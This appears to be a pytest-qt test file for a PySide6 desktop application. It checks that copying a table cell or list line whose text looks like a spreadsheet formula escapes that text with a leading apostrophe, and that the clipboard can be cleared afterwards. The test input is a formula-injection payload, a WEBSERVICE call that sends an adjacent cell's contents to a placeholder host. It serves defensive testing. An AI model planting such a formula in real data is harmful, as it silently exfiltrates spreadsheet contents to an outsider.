"""Ctrl+C on a line of a list or a cell of a table: what an applicant wrote is a text where it is pasted."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QGuiApplication, QStandardItem, QStandardItemModel
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QAbstractItemView, QListWidget, QTableView, QWidget
from pytestqt.qtbot import QtBot

from gridcounter.desktop.deadlines.deadline_table import DeadlineTable
from gridcounter.desktop.exchange.problems_table import ProblemsTable
from gridcounter.desktop.kit.tables import wrapped_list
from gridcounter.desktop.kit.theme import LIGHT
from gridcounter.desktop.session.clipboard import take_all_back

SENDS = '=WEBSERVICE("http://x.example/?"&A1)'
VIEWS: dict[str, Callable[[QWidget], QAbstractItemView]] = {
    "deadlines": lambda parent: DeadlineTable("时限", LIGHT, parent=parent),
    "problems": ProblemsTable,
    "a list": lambda parent: wrapped_list("经过", parent),
}


@pytest.mark.parametrize("view", VIEWS)
def test_a_name_that_looks_like_a_formula_is_copied_as_a_text_and_taken_back(qtbot: QtBot, view: str) -> None:
    """Qt copied it as it stands, for good; pasted into a spreadsheet it sent what stood beside it to a stranger."""
    window = QWidget()
    qtbot.addWidget(window)
    shown = VIEWS[view](window)
    if isinstance(shown, QListWidget):
        shown.addItem(f"{SENDS}\n已受理")
        expected = f"'{SENDS} 已受理"
    else:
        assert isinstance(shown, QTableView)
        rows = QStandardItemModel()
        rows.appendRow([QStandardItem(SENDS)])
        shown.setModel(rows)
        expected = f"'{SENDS}"
    window.show()
    window.activateWindow()
    assert QTest.qWaitForWindowActive(window)
    shown.setFocus()
    shown.setCurrentIndex(shown.model().index(0, 0))
    QTest.keyClick(shown, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    assert QGuiApplication.clipboard().text() == expected
    take_all_back()
    assert QGuiApplication.clipboard().text() == ""
